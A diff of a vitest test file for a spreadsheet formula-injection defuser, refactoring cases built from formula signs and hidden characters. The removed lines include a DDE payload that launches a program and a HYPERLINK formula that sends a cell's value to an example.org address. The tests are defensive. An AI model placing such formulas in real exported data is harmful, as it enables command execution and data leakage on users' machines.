@@ -1,43 +1,31 @@
 import { expect, it } from 'vitest';
 import { defused } from '#src/lib/defused.ts';
 
-it.each([
-  '=1+1',
-  '+1',
-  '-1',
-  '@SUM(1)',
-  '\t=1',
-  '\r=1',
-  '\n=1',
-  ' =1',
-  '\u00A0=1',
-  '\u200B=1',
-  '\u200D=1',
-  '\u2060=1',
-  '\u00AD=1',
-  '\u202E=1',
-  '\uFEFF=1',
-  '\uFEFF\u200B =1',
-  '\u0000=1',
-  '\u001B=1',
-  '\v=1',
-  '\tx',
-  '\rx',
-  '\nx',
-  "-2+3+cmd|' /C calc'!A0",
-  '=HYPERLINK("http://example.org?x="&A1,"Error")',
-  '＝1',
-  '＋1',
-  '－1',
-  '＠x',
-  '|x',
-  '%x',
-  'my road is out\n=1+1',
-  'my road is out\r\n @SUM(1)',
-  'my road is out\r+1',
-  'my road is out\n\u200B=1',
-  'my road is out\n\n\t－1',
-])('puts an apostrophe before %j', (text) => {
+const signs = [...'=+-@＝＋－＠'];
+/** White space, control and zero-width characters. */
+const unseen = [
+  '',
+  ...'\t \u00A0\u200B\u200D\u2060\u00AD\u202E\uFEFF\u0000\u001B\v',
+  '\uFEFF\u200B ',
+];
+
+it.each([...signs, '|', '%'])('puts an apostrophe before %s, whatever is before it', (sign) => {
+  for (const before of [...unseen, '\r', '\n']) {
+    const text = `${before}${sign}1+1`;
+    expect(defused(text)).toBe(`'${text}`);
+  }
+});
+
+it.each(signs)('puts an apostrophe before a text with %s at the start of a line', (sign) => {
+  for (const lineBreak of ['\n', '\r\n', '\r', '\n\n']) {
+    for (const before of unseen) {
+      const text = `my road is out${lineBreak}${before}${sign}1`;
+      expect(defused(text)).toBe(`'${text}`);
+    }
+  }
+});
+
+it.each(['\tx', '\rx', '\nx'])('puts an apostrophe before %j', (text) => {
   expect(defused(text)).toBe(`'${text}`);
 });
 
